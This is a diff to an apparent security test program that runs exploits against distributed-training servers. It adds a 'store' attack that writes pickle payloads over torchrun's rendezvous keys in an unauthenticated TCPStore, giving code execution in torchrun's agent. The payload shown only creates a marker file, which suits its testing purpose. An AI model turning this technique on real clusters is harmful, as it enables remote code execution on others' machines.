@@ -1,10 +1,11 @@
-"""What an intruder sends who can reach a port and knows no secret: both exploits, as a program.
+"""What an intruder sends who can reach a port and knows no secret: the exploits, as a program.
 
     python -m tests.security.attacks elastic PORT MARKER      # CVE-2024-10190: runs code in horovodrun itself
     python -m tests.security.attacks function PORT MARKER     # CVE-2026-31234: runs code in a rank of `run(f)`
+    python -m tests.security.attacks store PORT MARKER        # runs code in torchrun's agent, with rendezvous c10d
 
 The code does no harm: it makes the empty file MARKER. The program prints the status of the server's answer, or 0 where
-there was none.
+there was none; of `store`, the number of keys that it has written.
 """
 
 from __future__ import annotations
@@ -14,6 +15,7 @@ import http.client
 import os
 import pickle
 import sys
+from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
@@ -51,9 +53,21 @@ def put(port: int, path: str, body: bytes) -> int:
         connection.close()
 
 
+def overwrite_store(port: int, marker: Path) -> int:
+    """Put a pickle under each key that agents of torchrun keep their state under; return how many there were."""
+    import torch.distributed as dist  # which the other exploits need not wait for
+
+    make_store: Any = dist.TCPStore  # type: ignore[attr-defined]
+    store = make_store("127.0.0.1", port, is_master=False, timeout=timedelta(seconds=5))
+    keys = [key for key in store.list_keys() if "torch.rendezvous." in key]
+    for key in keys:
+        store.set(key, payload(marker))
+    return len(keys)
+
+
 def attack(name: str, port: int, marker: Path) -> int:
-    """Try one of the exploits once; return the status of the answer."""
-    return put(port, PATHS[name], payload(marker))
+    """Try one of the exploits once; return the status of the answer, or how many keys were written."""
+    return overwrite_store(port, marker) if name == "store" else put(port, PATHS[name], payload(marker))
 
 
 if __name__ == "__main__":
